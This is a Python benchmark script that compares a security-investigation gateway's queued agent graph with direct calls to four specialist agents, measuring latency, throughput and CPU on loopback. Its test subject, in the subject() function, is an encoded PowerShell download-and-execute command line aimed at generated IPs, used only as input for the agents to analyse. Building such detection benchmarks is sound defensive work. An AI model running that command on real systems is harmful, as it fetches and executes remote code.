"""Investigations end to end: the gateway's queue and graph against the same specialists called
directly, in the same run.

Four specialists (threat_intel, malware, network, responder) run on the built-in backend, each
in its own process started with ``aurora agent run`` (as ``aurora up`` does); the gateway runs
in its own process on a fresh SQLite database. One client process drives both sides at the same
concurrency, in alternating rounds:

- gateway: ``POST /api/v1/agents/investigate`` of a realistic subject (an IP, a sentence, an
  encoded PowerShell command line; a different IP each time, so nothing repeats), timed until
  its receipt arrives on ``/api/v1/ws/investigation-receipts`` (polling ``GET
  /api/v1/investigations/{id}`` when the stream does not deliver it);
- direct: the calls the graph makes for that subject, made straight from a HandoffClient:
  threat_intel, malware and network in parallel, threat_intel again when the first round found
  new indicators, then the responder's plan over the findings.

It reports investigations per minute, end-to-end p50 and p99, CPU per investigation in each
process, and the overhead of the orchestration against the direct calls (``gateway / direct -
1``; for throughput, the time per investigation). To show where the gateway's time goes, it
splits each investigation into stages by the host clock and the graph's timeline stamps: the
POST, the queue (until the graph's intake is done), the graph, and the finish (until the receipt
arrives), and gives the receipt's own ``latency_ms``. Targets: gateway p50 under 1 s; the
orchestration's overhead (the graph, intake to report, against the same calls made directly) at
most 20% at p50 and p99; the whole platform's (HTTP, the durable queue, checkpoints, the
receipt) at most 25% at p50, with the gateway's CPU per investigation below the agents'.
Only loopback addresses are used; the child processes end with it.

    .venv/bin/python benchmarks/investigate.py [--count 60] [--concurrency 4] [--rounds 3]
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import cProfile
import itertools
import json
import multiprocessing
import os
import statistics
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from aiohttp import ClientSession, ClientWebSocketResponse, TCPConnector, WSMsgType

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from agents.acp.client import CallOptions, HandoffClient
from agents.acp.registry import AgentRegistry
from benchmarks.common import (
    ADMIN_PASSWORD,
    HOST,
    SECRET,
    cpu_seconds,
    free_port,
    gateway_settings,
    login,
    percentile,
    prepare,
)
from core import eventloop
from core.security.tokens import TokenService
from core.settings import Settings
from gateway.app import AgentToken
from gateway.server import serve
from gateway.supervisor import AgentSupervisor, agent_command
from orchestrator.nodes.intake import intake
from orchestrator.rules import rule_plan

AGENTS = ("threat_intel", "malware", "network", "responder")
MODE = "dry_run"
"""The gateway's default system mode, which the graph passes to the responder."""
TERMINAL = frozenset({"completed", "failed", "cancelled"})
RECEIPT_WAIT_SECONDS = 10.0
"""How long to wait for a pushed receipt before asking for the investigation instead."""
INVESTIGATION_TIMEOUT_SECONDS = 120.0
TARGET_P50_MS = 1000.0
TARGET_OVERHEAD = 0.20
TARGET_PLATFORM_OVERHEAD = 0.25
"""Issue 20: the whole platform against the direct calls, at p50."""


# -- the subject ------------------------------------------------------------------------------


def subject(n: int) -> dict[str, Any]:
    """The ``n``-th request body: the tests' phishing-and-PowerShell subject around its own IP."""
    ip = f"45.{33 + n // 62_500 % 100}.{n // 250 % 250}.{n % 250 + 1}"
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    return {
        "iocs": [{"type": "ip", "value": ip}],
        "text": f"User opened an attachment; powershell fetched a script from {ip}.",
        "command_lines": [f"powershell.exe -nop -w hidden -enc {encoded}"],
        "priority": "normal",
    }


async def first_round(
    body: dict[str, Any],
) -> tuple[list[dict[str, Any]], list[tuple[str, str, Any]]]:
    """The graph's intake and plan for ``body`` as the gateway snapshots it (title = the text's
    first 200 characters): the seed indicators and the first round's (agent, method, params)."""
    text = body["text"]
    snapshot = {**body, "title": text[:200]}
    subject = (await intake({"investigation_id": "", "subject": snapshot}))["subject"]
    plan = rule_plan(subject, frozenset(AGENTS), investigation_id="")
    seed = [i.model_dump() for i in subject.iocs]
    return seed, [(c["agent"], c["method"], c["params"]) for c in plan]


# -- processes --------------------------------------------------------------------------------


def agent_environment(data_dir: Path) -> None:
    """What ``aurora agent run`` reads: this run's data dir and JWT secret, on loopback. Any
    ``AURORA_*`` variable of the caller's shell is dropped, so nothing points elsewhere."""
    for key in [k for k in os.environ if k.startswith("AURORA_")]:
        del os.environ[key]
    os.environ.update(
        {
            "AURORA_DATA_DIR": str(data_dir),
            "AURORA_JWT_SECRET": SECRET,
            "AURORA_LOG_LEVEL": "WARNING",
            "AURORA_AGENT_HOST": HOST,
        }
    )


def run_gateway(settings: Settings, profile: Path | None) -> None:
    """The gateway alone in this process; with ``profile``, under cProfile (slower), the stats
    written there when it stops."""
    profiler = cProfile.Profile() if profile is not None else None
    if profiler is not None:
        profiler.enable()
    try:
        eventloop.run(serve(settings, banner=lambda _url: None))
    finally:
        if profiler is not None and profile is not None:
            profiler.disable()
            profiler.dump_stats(profile)


def agent_pids() -> list[int]:
    """This process's children that run ``aurora agent run`` (Linux /proc; empty elsewhere)."""
    found: list[int] = []
    with contextlib.suppress(OSError):
        for task in Path(f"/proc/{os.getpid()}/task").iterdir():
            for pid in (task / "children").read_text().split():
                with contextlib.suppress(OSError):
                    argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
                    if b"agent" in argv and b"run" in argv:
                        found.append(int(pid))
    return found


@dataclass(slots=True)
class CpuMeter:
    """CPU seconds used by the gateway, the agents and this client between two readings."""

    gateway_pid: int
    agent_pids: list[int]
    _start: tuple[float, float, float] = (0.0, 0.0, 0.0)

    def _read(self) -> tuple[float, float, float]:
        gateway = cpu_seconds(self.gateway_pid) or 0.0
        agents = sum(cpu_seconds(pid) or 0.0 for pid in self.agent_pids)
        return gateway, agents, time.process_time()

    def start(self) -> None:
        self._start = self._read()

    def stop(self) -> tuple[float, float, float]:
        end = self._read()
        return (end[0] - self._start[0], end[1] - self._start[1], end[2] - self._start[2])


# -- measuring --------------------------------------------------------------------------------


@dataclass
class Phase:
    name: str
    investigations: int
    errors: int
    seconds: float
    per_minute: float
    p50_ms: float
    p99_ms: float
    graph_p50_ms: float
    """The graph alone, from its timeline (intake done to report done); -1 for the direct
    side."""
    graph_p99_ms: float
    receipt_p50_ms: float
    """The receipt's own ``latency_ms`` (the runner's clock); -1 for the direct side."""
    receipt_p99_ms: float
    calls_per_investigation: float
    """Specialist calls made per investigation (the direct side must match the graph's)."""
    cpu_ms_gateway: float
    """CPU per investigation, in milliseconds, of the gateway, all agents, and this client."""
    cpu_ms_agents: float
    cpu_ms_client: float
    stages_p50_ms: dict[str, float] = field(default_factory=dict)
    """Gateway side: p50 of each stage, by the host clock: ``post`` (until the 202), ``queue``
    (202 to the graph's intake done: wake, claim, load, the first checkpoints, intake),
    ``graph`` (intake to report), ``finish`` (report to the receipt's arrival: the last
    checkpoints, the row's update, the event, the push)."""
    verdicts: dict[str, int] = field(default_factory=dict)


@dataclass(slots=True)
class Samples:
    latencies: list[float] = field(default_factory=list)
    graph: list[float] = field(default_factory=list)
    receipt: list[float] = field(default_factory=list)
    calls: list[int] = field(default_factory=list)
    stages: dict[str, list[float]] = field(default_factory=dict)
    verdicts: dict[str, int] = field(default_factory=dict)
    errors: int = 0


async def drive(
    name: str,
    count: int,
    concurrency: int,
    numbers: Iterator[int],
    one: Callable[[int, Samples], Awaitable[None]],
    cpu: CpuMeter,
) -> Phase:
    """Run ``count`` investigations through ``one``, ``concurrency`` at a time."""
    samples = Samples()
    todo = iter(range(count))

    async def worker() -> None:
        for _ in todo:
            try:
                await one(next(numbers), samples)
            except Exception as err:
                samples.errors += 1
                print(f"{name}: {type(err).__name__}: {err}", file=sys.stderr)

    cpu.start()
    started = time.perf_counter()
    await asyncio.gather(*(worker() for _ in range(concurrency)))
    elapsed = time.perf_counter() - started
    gateway_cpu, agents_cpu, client_cpu = cpu.stop()
    done = max(1, len(samples.latencies))
    ordered = sorted(samples.latencies)
    graph = sorted(samples.graph)
    return Phase(
        name=name,
        investigations=len(ordered),
        errors=samples.errors,
        seconds=round(elapsed, 3),
        per_minute=round(len(ordered) / elapsed * 60, 1),
        p50_ms=round(percentile(ordered, 0.5) * 1000, 1),
        p99_ms=round(percentile(ordered, 0.99) * 1000, 1),
        graph_p50_ms=round(percentile(graph, 0.5) * 1000, 1),
        graph_p99_ms=round(percentile(graph, 0.99) * 1000, 1),
        receipt_p50_ms=round(percentile(sorted(samples.receipt), 0.5), 1),
        receipt_p99_ms=round(percentile(sorted(samples.receipt), 0.99), 1),
        calls_per_investigation=round(statistics.fmean(samples.calls or [0]), 2),
        cpu_ms_gateway=round(gateway_cpu / done * 1000, 2),
        cpu_ms_agents=round(agents_cpu / done * 1000, 2),
        cpu_ms_client=round(client_cpu / done * 1000, 2),
        stages_p50_ms={
            stage: round(percentile(sorted(values), 0.5) * 1000, 1)
            for stage, values in samples.stages.items()
        },
        verdicts=dict(sorted(samples.verdicts.items())),
    )


class Receipts:
    """The receipt stream, read from before the first request so no receipt is missed (one
    that comes before its POST returns is kept until asked for)."""

    def __init__(self, session: ClientSession, base: str, headers: dict[str, str]) -> None:
        self._session = session
        self._base = base
        self._headers = headers
        self._arrived: dict[str, tuple[float, dict[str, Any]]] = {}
        self._waiting: dict[str, asyncio.Future[tuple[float, dict[str, Any]]]] = {}
        self._ws: ClientWebSocketResponse | None = None
        self._reader: asyncio.Task[None] | None = None
        self.polled = 0

    async def open(self, token: str) -> None:
        url = f"{self._base}/api/v1/ws/investigation-receipts?access_token={token}"
        try:
            self._ws = await self._session.ws_connect(url)
        except Exception as err:
            print(f"receipt stream unavailable ({err}); polling instead", file=sys.stderr)
            return
        self._reader = asyncio.create_task(self._read(self._ws))

    async def _read(self, ws: ClientWebSocketResponse) -> None:
        async for message in ws:
            if message.type is not WSMsgType.TEXT:
                continue
            event = json.loads(message.data)
            if event.get("type") != "receipt":
                continue  # a gap notice: the waiters concerned fall back to polling
            arrival = (time.perf_counter(), event)
            waiter = self._waiting.pop(event["investigation_id"], None)
            if waiter is not None and not waiter.done():
                waiter.set_result(arrival)
            else:
                self._arrived[event["investigation_id"]] = arrival

    async def wait(self, investigation_id: str) -> tuple[float, dict[str, Any]]:
        """(arrival time, ``{"status", "receipt", ...}``) of the finished investigation."""
        if investigation_id in self._arrived:
            return self._arrived.pop(investigation_id)
        if self._reader is not None and not self._reader.done():
            waiter = asyncio.get_running_loop().create_future()
            self._waiting[investigation_id] = waiter
            try:
                return await asyncio.wait_for(waiter, RECEIPT_WAIT_SECONDS)
            except TimeoutError:
                self._waiting.pop(investigation_id, None)
        return await self._poll(investigation_id)

    async def _poll(self, investigation_id: str) -> tuple[float, dict[str, Any]]:
        self.polled += 1
        url = f"{self._base}/api/v1/investigations/{investigation_id}"
        deadline = time.perf_counter() + INVESTIGATION_TIMEOUT_SECONDS
        while time.perf_counter() < deadline:
            async with self._session.get(url, headers=self._headers) as response:
                body = await response.json()
            if body.get("status") in TERMINAL:
                return time.perf_counter(), body
            await asyncio.sleep(0.02)
        raise TimeoutError(f"{investigation_id} did not finish")

    async def close(self) -> None:
        if self._ws is not None:
            await self._ws.close()
        if self._reader is not None:
            self._reader.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._reader


def gateway_investigation(
    session: ClientSession, base: str, headers: dict[str, str], receipts: Receipts
) -> Callable[[int, Samples], Awaitable[None]]:
    async def one(n: int, samples: Samples) -> None:
        body = subject(n)
        started, wall = time.perf_counter(), time.time()
        async with session.post(
            f"{base}/api/v1/agents/investigate", json=body, headers=headers
        ) as response:
            accepted = await response.json()
            if response.status != 202:
                raise RuntimeError(f"investigate answered {response.status}: {accepted}")
        posted = time.perf_counter()
        arrived, event = await receipts.wait(accepted["id"])
        if event.get("status") != "completed" or not event.get("receipt"):
            raise RuntimeError(f"{accepted['id']} ended {event.get('status')}")
        receipt = event["receipt"]
        if receipt.get("failures"):
            # A degraded investigation skipped work: it must not pass for a fast one.
            raise RuntimeError(f"{accepted['id']} degraded: {receipt['failures']}")
        samples.latencies.append(arrived - started)
        # The graph stamps its timeline with the wall clock (this host's, to the millisecond).
        intake, report = receipt["timeline"][0]["at"], receipt["timeline"][-1]["at"]
        arrived_wall = wall + (arrived - started)
        for stage, seconds in (
            ("post", posted - started),
            ("queue", intake - (wall + (posted - started))),
            ("graph", report - intake),
            ("finish", arrived_wall - report),
        ):
            samples.stages.setdefault(stage, []).append(seconds)
        samples.graph.append(report - intake)
        samples.receipt.append(float(receipt["latency_ms"]))
        response_calls = 1 if receipt.get("response") else 0
        samples.calls.append(len(receipt["findings"]) + response_calls)
        verdict = str(receipt.get("verdict"))
        samples.verdicts[verdict] = samples.verdicts.get(verdict, 0) + 1

    return one


def direct_investigation(
    client: HandoffClient, timeout: float
) -> Callable[[int, Samples], Awaitable[None]]:
    async def one(n: int, samples: Samples) -> None:
        body = subject(n)
        investigation_id = f"BENCH-{n}"
        seed, calls = await first_round(body)  # the inputs: prepared before the clock starts
        known = {(i["type"], i["value"]) for i in seed}

        def options(round_: int, agent: str) -> CallOptions:
            return CallOptions(
                investigation_id=investigation_id,
                timeout=timeout,
                idempotency_key=f"{investigation_id}:{round_}:{agent}",
            )

        started = time.perf_counter()
        findings: list[dict[str, Any]] = list(
            await asyncio.gather(
                *(client.call(a, m, p, options(0, a)) for a, m, p in calls),
            )
        )
        found = dict.fromkeys((i["type"], i["value"]) for f in findings for i in f.get("iocs", []))
        new = [{"type": t, "value": v} for t, v in found if (t, v) not in known]
        if new:
            params = {"iocs": new, "context": body["text"]}
            findings.append(
                await client.call(
                    "threat_intel", "analyze_threat", params, options(1, "threat_intel")
                )
            )
        plan = await client.call(
            "responder",
            "plan_response",
            {"findings": findings, "mode": MODE, "investigation_id": investigation_id},
            CallOptions(investigation_id=investigation_id, timeout=timeout),
        )
        samples.latencies.append(time.perf_counter() - started)
        samples.calls.append(len(findings) + (1 if plan else 0))

    return one


def ratio(over: float, under: float) -> float:
    return round(over / under - 1, 3) if under > 0 else float("nan")


async def measure(
    args: argparse.Namespace,
    settings: Settings,
    urls: dict[str, str],
    gateway: multiprocessing.process.BaseProcess,
) -> dict[str, Any]:
    base = f"http://{HOST}:{settings.port}"
    numbers = itertools.count(1)
    cpu = CpuMeter(gateway.pid or 0, agent_pids())
    client = HandoffClient(
        registry=AgentRegistry({name: (url,) for name, url in urls.items()}),
        sender="benchmark",
        token=AgentToken(TokenService.from_settings(settings)),
        default_timeout=settings.acp_call_timeout_seconds,
        max_frame_bytes=settings.acp_max_frame_bytes,
    )
    # Enough connections that the client never queues for one: the WS stream, the
    # concurrency's POSTs, and the occasional poll.
    connector = TCPConnector(limit=args.concurrency * 2 + 4)
    async with ClientSession(connector=connector) as session:
        token = await login(
            session, base, settings.admin_username, ADMIN_PASSWORD, gateway.is_alive
        )
        headers = {"Authorization": f"Bearer {token}"}
        receipts = Receipts(session, base, headers)
        await receipts.open(token)
        sides: dict[str, Callable[[int, Samples], Awaitable[None]]] = {
            "direct": direct_investigation(client, settings.acp_call_timeout_seconds),
            "gateway": gateway_investigation(session, base, headers, receipts),
        }
        try:
            # One at a time first: the agents' first calls load what they load lazily.
            for name, one in sides.items():
                await drive(name, 1, 1, numbers, one, cpu)
            warm = max(args.concurrency * 2, 8)
            for name, one in sides.items():
                await drive(name, warm, args.concurrency, numbers, one, cpu)
            rounds: list[dict[str, Phase]] = []
            for index in range(args.rounds):
                # Alternate which side goes first, so neither always follows the other.
                order = list(sides) if index % 2 == 0 else list(reversed(sides))
                current = {
                    name: await drive(name, args.count, args.concurrency, numbers, sides[name], cpu)
                    for name in order
                }
                rounds.append(current)
                print(
                    f"round {index + 1}: direct p50 {current['direct'].p50_ms:.0f} ms, "
                    f"gateway p50 {current['gateway'].p50_ms:.0f} ms "
                    f"(graph {current['gateway'].graph_p50_ms:.0f} ms)",
                    file=sys.stderr,
                )
        finally:
            await receipts.close()
            await client.close()

    numeric = [k for k, v in asdict(rounds[0]["direct"]).items() if isinstance(v, int | float)]

    def median(name: str) -> dict[str, Any]:
        row: dict[str, Any] = {
            k: round(statistics.median(getattr(r[name], k) for r in rounds), 3) for k in numeric
        }
        row["stages_p50_ms"] = {
            stage: round(statistics.median(r[name].stages_p50_ms[stage] for r in rounds), 1)
            for stage in rounds[0][name].stages_p50_ms
        }
        return row

    def overhead(over: Callable[[dict[str, Phase]], float], under: str) -> float:
        return round(
            statistics.median(ratio(over(r), getattr(r["direct"], under)) for r in rounds), 3
        )

    return {
        "count": args.count,
        "concurrency": args.concurrency,
        "agents": list(AGENTS),
        "rounds": [{k: asdict(v) for k, v in r.items()} for r in rounds],
        "direct": median("direct"),
        "gateway": median("gateway"),
        "errors": sum(r[k].errors for r in rounds for k in r),
        "receipts_polled": receipts.polled,
        "overhead": {
            "p50": overhead(lambda r: r["gateway"].p50_ms, "p50_ms"),
            "p99": overhead(lambda r: r["gateway"].p99_ms, "p99_ms"),
            # Time per investigation at the same concurrency: direct rate / gateway rate - 1.
            "throughput": round(
                statistics.median(
                    ratio(r["direct"].per_minute, r["gateway"].per_minute) for r in rounds
                ),
                3,
            ),
            "graph_p50": overhead(lambda r: r["gateway"].graph_p50_ms, "p50_ms"),
            "graph_p99": overhead(lambda r: r["gateway"].graph_p99_ms, "p99_ms"),
            "receipt_p50": overhead(lambda r: r["gateway"].receipt_p50_ms, "p50_ms"),
        },
        "targets": {"p50_ms": TARGET_P50_MS, "overhead": TARGET_OVERHEAD},
    }


def print_report(report: dict[str, Any], args: argparse.Namespace) -> None:
    direct, gateway, over = report["direct"], report["gateway"], report["overhead"]
    print(
        f"{len(AGENTS)} specialists (built-in backend), {args.count} investigations per side "
        f"per round at concurrency {args.concurrency}, {args.rounds} rounds; medians of rounds"
    )
    print(
        f"{'':10}{'inv/min':>9}{'p50 ms':>9}{'p99 ms':>9}{'graph p50':>11}{'graph p99':>11}"
        f"{'calls':>7}{'CPU ms/inv: gateway':>21}{'agents':>8}{'client':>8}"
    )
    # "graph": the graph alone, from its timeline; "calls": specialist calls per investigation.
    for name, row in (("direct", direct), ("gateway", gateway)):
        graph = (
            (f"{row['graph_p50_ms']:>11.0f}{row['graph_p99_ms']:>11.0f}")
            if row["graph_p50_ms"] >= 0
            else f"{'-':>11}{'-':>11}"
        )
        print(
            f"{name:10}{row['per_minute']:>9.0f}{row['p50_ms']:>9.0f}{row['p99_ms']:>9.0f}{graph}"
            f"{row['calls_per_investigation']:>7.2f}{row['cpu_ms_gateway']:>21.1f}"
            f"{row['cpu_ms_agents']:>8.1f}{row['cpu_ms_client']:>8.1f}"
        )
    print(
        f"overhead gateway/direct - 1: p50 {over['p50']:+.1%}, p99 {over['p99']:+.1%}, "
        f"time per investigation (throughput) {over['throughput']:+.1%}"
    )
    print(
        f"the graph alone (its timeline, intake to report) against direct: "
        f"p50 {over['graph_p50']:+.1%}, p99 {over['graph_p99']:+.1%}; the receipt's latency_ms: "
        f"p50 {gateway['receipt_p50_ms']:.0f} ms ({over['receipt_p50']:+.1%}), "
        f"p99 {gateway['receipt_p99_ms']:.0f} ms"
    )
    stages = ", ".join(f"{k} {v:.0f} ms" for k, v in gateway["stages_p50_ms"].items())
    print(f"gateway stages, p50 each: {stages}")
    if direct["calls_per_investigation"] != gateway["calls_per_investigation"]:
        print("WARNING: the direct side made other calls than the graph: the baseline is off")
    print(
        f"errors: {report['errors']}; receipts that had to be polled: {report['receipts_polled']}"
    )
    checks = (
        (f"gateway p50 < {TARGET_P50_MS:.0f} ms", gateway["p50_ms"] < TARGET_P50_MS, "ms"),
        (
            f"orchestration overhead (graph against direct), p50 <= {TARGET_OVERHEAD:.0%}",
            over["graph_p50"] <= TARGET_OVERHEAD,
            "graph_p50",
        ),
        (
            f"orchestration overhead (graph against direct), p99 <= {TARGET_OVERHEAD:.0%}",
            over["graph_p99"] <= TARGET_OVERHEAD,
            "graph_p99",
        ),
    )
    for label, ok, key in checks:
        got = f"{gateway['p50_ms']:.0f} ms" if key == "ms" else f"{over[key]:+.1%}"
        print(f"{'PASS' if ok else 'FAIL'}  {label} (got {got})")
    ok = over["p50"] <= TARGET_PLATFORM_OVERHEAD
    print(
        f"{'PASS' if ok else 'FAIL'}  the whole platform (HTTP, durable queue, checkpoints, "
        f"receipt) against direct, p50 <= {TARGET_PLATFORM_OVERHEAD:.0%} (got {over['p50']:+.1%}; "
        f"throughput {over['throughput']:+.1%})"
    )
    ok = gateway["cpu_ms_gateway"] < gateway["cpu_ms_agents"]
    print(
        f"{'PASS' if ok else 'FAIL'}  gateway CPU per investigation below the four agents' "
        f"(got {gateway['cpu_ms_gateway']:.1f} ms against {gateway['cpu_ms_agents']:.1f} ms)"
    )


async def run(args: argparse.Namespace, data_dir: Path) -> dict[str, Any]:
    """Start the agents and the gateway, measure, and stop them all (also when interrupted)."""
    agent_environment(data_dir)
    supervisor = AgentSupervisor(
        {name: (*agent_command(name), "--port", "0") for name in AGENTS}, start_timeout=120
    )
    gateway: multiprocessing.process.BaseProcess | None = None
    try:
        started = await supervisor.start()
        missing = [name for name, url in started.items() if url is None]
        if missing:
            raise RuntimeError(f"agents that did not start: {', '.join(missing)}")
        urls = {name: str(url) for name, url in started.items()}
        # The catalogue's other specialists are not part of this run: point them at a closed
        # loopback port, so the gateway never reaches for a default one.
        agent_urls: dict[str, list[str]] = {name: [url] for name, url in urls.items()}
        agent_urls["endpoint"] = [f"ws://{HOST}:{free_port()}"]
        settings = gateway_settings(data_dir, free_port(), agent_host=HOST, agent_urls=agent_urls)
        await prepare(settings)
        gateway = multiprocessing.get_context("spawn").Process(
            target=run_gateway, args=(settings, args.profile), daemon=True
        )
        gateway.start()
        return await measure(args, settings, urls, gateway)
    finally:
        if gateway is not None:
            gateway.terminate()
            await asyncio.to_thread(gateway.join, 30)
        await supervisor.stop()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=60, help="investigations per side per round")
    parser.add_argument("--concurrency", type=int, default=4, help="investigations in flight")
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--json", type=Path, help="also write the result here")
    parser.add_argument(
        "--profile",
        type=Path,
        help="run the gateway under cProfile and write its stats here (slows the gateway)",
    )
    args = parser.parse_args()
    if args.count < 1 or args.concurrency < 1 or args.rounds < 1:
        parser.error("--count, --concurrency and --rounds must be at least 1")
    if args.profile is not None:
        args.profile = args.profile.resolve()
    with tempfile.TemporaryDirectory(prefix="aurora-bench-") as tmp:
        try:
            report = asyncio.run(run(args, Path(tmp)))
        except KeyboardInterrupt:
            return 130  # the child processes were stopped on the way out
    print_report(report, args)
    if args.json:
        args.json.write_text(json.dumps(report, indent=2))
    return 0 if report["errors"] == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
